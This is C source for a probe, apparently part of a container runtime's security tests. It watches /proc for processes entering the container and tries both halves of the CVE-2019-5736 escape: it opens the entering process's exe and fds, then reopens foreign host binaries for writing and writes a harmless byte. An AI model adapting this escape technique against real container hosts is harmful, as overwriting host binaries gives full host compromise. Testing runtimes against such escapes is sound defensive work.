/* Run inside a container: watch for processes that enter it (pyc exec) and record what of
 * them can be opened through /proc before and after they exec: /proc/N/exe and /proc/N/fd/K.
 * Each record says whether what was opened is the container's own (a file of the container at
 * the path readlink names, same device and inode) or FOREIGN (a host binary, a pipe or socket
 * of pyc's, a memfd, ...). The attack of CVE-2019-5736 starts with such an open; its second
 * half is tried too: each foreign exe is kept open and, once its process is gone,
 * reopened for writing through /proc/self/fd and written ("WROTE": the host binary changed).
 *
 * usage: exec_watch LOG    (runs until killed; writes "ready" then one line per finding)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static FILE *out;
static long seen;
/* The O_PATH fd of a foreign exe of the pid being watched, tried for writing once it is gone. */
static int kept[1];
static int nkept;

/* Whether `fd` is the file the container has at `path` (readlink's answer), or a pty of the
 * container's own devpts (a pty's node is gone once it is closed: "/dev/pts/N (deleted)"). */
static int own(int fd, const char *path) {
    struct stat a, b, pts;
    if (fstat(fd, &a) != 0)
        return 0;
    if (strncmp(path, "/dev/pts/", 9) == 0 && stat("/dev/pts/ptmx", &pts) == 0 && a.st_dev == pts.st_dev)
        return 1;
    if (path[0] != '/' || stat(path, &b) != 0)
        return 0;
    return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

static void link_of(const char *proc_path, char *buf, size_t n) {
    ssize_t len = readlink(proc_path, buf, n - 1);
    if (len < 0)
        snprintf(buf, n, "(readlink: %s)", strerror(errno));
    else
        buf[len] = 0;
}

/* `before`: the link as read before the open; `after`, once opened. A process may exec or end
 * between the two: where the opened file is neither the container's file at `before` nor at
 * `after`, and either names something, it is foreign. */
static void record(const char *what, long pid, const char *name, int fd, const char *before, const char *after) {
    /* What was opened, named by the probe's own fd: the process may have exec'd or ended
     * between the looks, so that neither `before` nor `after` names it. */
    char opened[4096], self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    link_of(self, opened, sizeof opened);
    if (own(fd, opened) || own(fd, before) || own(fd, after))
        fprintf(out, "own pid=%ld %s %s link=%s\n", pid, what, name, opened);
    else
        fprintf(out, "FOREIGN pid=%ld %s %s link=%s\n", pid, what, name, opened);
    fflush(out);
}

/* Whether `fd` is foreign (as record() judges it). */
static int foreign(int fd, const char *before, const char *after) {
    char opened[4096], self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    link_of(self, opened, sizeof opened);
    return !own(fd, opened) && !own(fd, before) && !own(fd, after);
}

/* The second half of the attack on each kept exe: reopen it for writing and write one byte. */
static void try_writes(long pid) {
    for (int i = 0; i < nkept; i++) {
        if (kept[i] < 0)
            continue;
        char self[64], link[4096];
        snprintf(self, sizeof self, "/proc/self/fd/%d", kept[i]);
        link_of(self, link, sizeof link);
        int w = -1;
        for (int tries = 0; tries < 200 && w < 0; tries++) { /* ETXTBSY while it still runs */
            w = open(self, O_WRONLY | O_CLOEXEC);
            if (w < 0 && errno != ETXTBSY)
                break;
            if (w < 0)
                usleep(5000);
        }
        if (w < 0)
            fprintf(out, "write refused pid=%ld exe link=%s (open: %s)\n", pid, link, strerror(errno));
        /* The ELF magic's own first byte: proves the write, changes no content. */
        else if (pwrite(w, "\x7f", 1, 0) != 1)
            fprintf(out, "write refused pid=%ld exe link=%s (write: %s)\n", pid, link, strerror(errno));
        else
            fprintf(out, "WROTE pid=%ld exe link=%s\n", pid, link);
        fflush(out);
        if (w >= 0)
            close(w);
        close(kept[i]);
    }
    nkept = 0;
}

/* One look at process `pid`: its exe and every fd beyond 0-2. */
static void look(long pid) {
    char path[64], link[4096];
    char before[4096];
    snprintf(path, sizeof path, "/proc/%ld/exe", pid);
    link_of(path, before, sizeof before);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        link_of(path, link, sizeof link);
        record("exe", pid, "exe", fd, before, link);
        if (nkept == 0 && foreign(fd, before, link)) /* one per process */
            kept[nkept++] = fcntl(fd, F_DUPFD_CLOEXEC, 0); /* what was judged, not a new look */
        close(fd);
    }
    snprintf(path, sizeof path, "/proc/%ld/fd", pid);
    DIR *d = opendir(path);
    if (!d)
        return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.' || atoi(e->d_name) <= 2)
            continue;
        char fdpath[320];
        snprintf(fdpath, sizeof fdpath, "/proc/%ld/fd/%s", pid, e->d_name);
        link_of(fdpath, before, sizeof before);
        /* O_NOCTTY: a pty it opens must not become its controlling terminal (pid 1 leads a session
         * with none), which would make the entering process's own TIOCSCTTY fail. */
        int f = open(fdpath, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
        link_of(fdpath, link, sizeof link);
        if (f >= 0) {
            record("fd", pid, e->d_name, f, before, link);
            close(f);
        } else if (errno != EACCES && errno != EPERM && errno != ENOENT && errno != ESRCH) {
            /* Reachable, though not openable this way (a socket: ENXIO): still a host object. */
            fprintf(out, "FOREIGN pid=%ld fd %s link=%s (open: %s)\n", pid, e->d_name, link, strerror(errno));
            fflush(out);
        }
    }
    closedir(d);
}

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    out = fopen(argv[1], "w");
    if (!out)
        return 2;
    int last_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (last_fd < 0)
        return 3;
    long self = getpid(), last = -1;
    fprintf(out, "ready pid=%ld\n", self);
    fflush(out);
    for (;;) {
        char buf[32];
        ssize_t n = pread(last_fd, buf, sizeof buf - 1, 0);
        if (n <= 0)
            continue;
        buf[n] = 0;
        long now = atol(buf);
        if (now == last)
            continue;
        /* A new process (or several): look at each pid since the last one, many times over its
         * first milliseconds, which is when an entering process has not exec'd yet. */
        long from = last < 0 ? now : last + 1;
        last = now;
        for (long pid = from; pid <= now; pid++) {
            if (pid == self)
                continue;
            seen++;
            fprintf(out, "new pid=%ld\n", pid);
            fflush(out);
            struct timespec t0, t;
            clock_gettime(CLOCK_MONOTONIC, &t0);
            do {
                look(pid);
                clock_gettime(CLOCK_MONOTONIC, &t);
            } while ((t.tv_sec - t0.tv_sec) * 1000000000L + (t.tv_nsec - t0.tv_nsec) < 3000000L);
            try_writes(pid);
        }
    }
}
